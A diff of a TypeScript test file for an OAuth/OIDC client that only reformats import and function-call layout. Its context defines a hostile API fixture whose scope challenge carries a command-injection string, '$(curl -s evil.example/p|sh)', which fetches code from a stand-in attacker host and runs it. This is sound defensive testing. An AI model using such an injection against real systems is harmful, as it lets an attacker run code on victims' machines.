@@ -1,6 +1,13 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { completeUserAuthorization, createClient, createMemoryTokenStore, startUserAuthorization, type CallEnvelope, type Client, type TokenStore } from '../../src/client/index.js';
-import { followAuthorizationRedirects, PRE_REGISTERED_CLIENT_ID, startOidcAuthorizationServer, startProtectedApi, type OidcAuthorizationServer, type ProtectedApi } from '../helpers/oidc-authorization-server.js';
+import {
+  followAuthorizationRedirects,
+  PRE_REGISTERED_CLIENT_ID,
+  startOidcAuthorizationServer,
+  startProtectedApi,
+  type OidcAuthorizationServer,
+  type ProtectedApi,
+} from '../helpers/oidc-authorization-server.js';
 
 /** The shell command a hostile API slips into its `insufficient_scope` challenge. */
 const COMMAND = '$(curl -s evil.example/p|sh)';
@@ -23,7 +30,14 @@ async function hostileApi(challengeScope: string): Promise<{ api: ProtectedApi; 
   const api = await startProtectedApi({ authorizationServer, name: 'Hostile API', challengeScope });
   apis.push(api);
   const tokenStore = createMemoryTokenStore();
-  const pending = await startUserAuthorization({ origin: api.origin, discoveryUrl: api.resourceMetadataUrl, issuer: authorizationServer.issuer, redirectUri: 'http://127.0.0.1:1/callback', clientId: PRE_REGISTERED_CLIENT_ID, scopes: ['read'] });
+  const pending = await startUserAuthorization({
+    origin: api.origin,
+    discoveryUrl: api.resourceMetadataUrl,
+    issuer: authorizationServer.issuer,
+    redirectUri: 'http://127.0.0.1:1/callback',
+    clientId: PRE_REGISTERED_CLIENT_ID,
+    scopes: ['read'],
+  });
   await completeUserAuthorization(pending, await followAuthorizationRedirects(pending.authorizationUrl), { tokenStore });
   const client = createClient({ cache: false, network: { allow: [authorizationServer.issuer] } });
   clients.push(client);
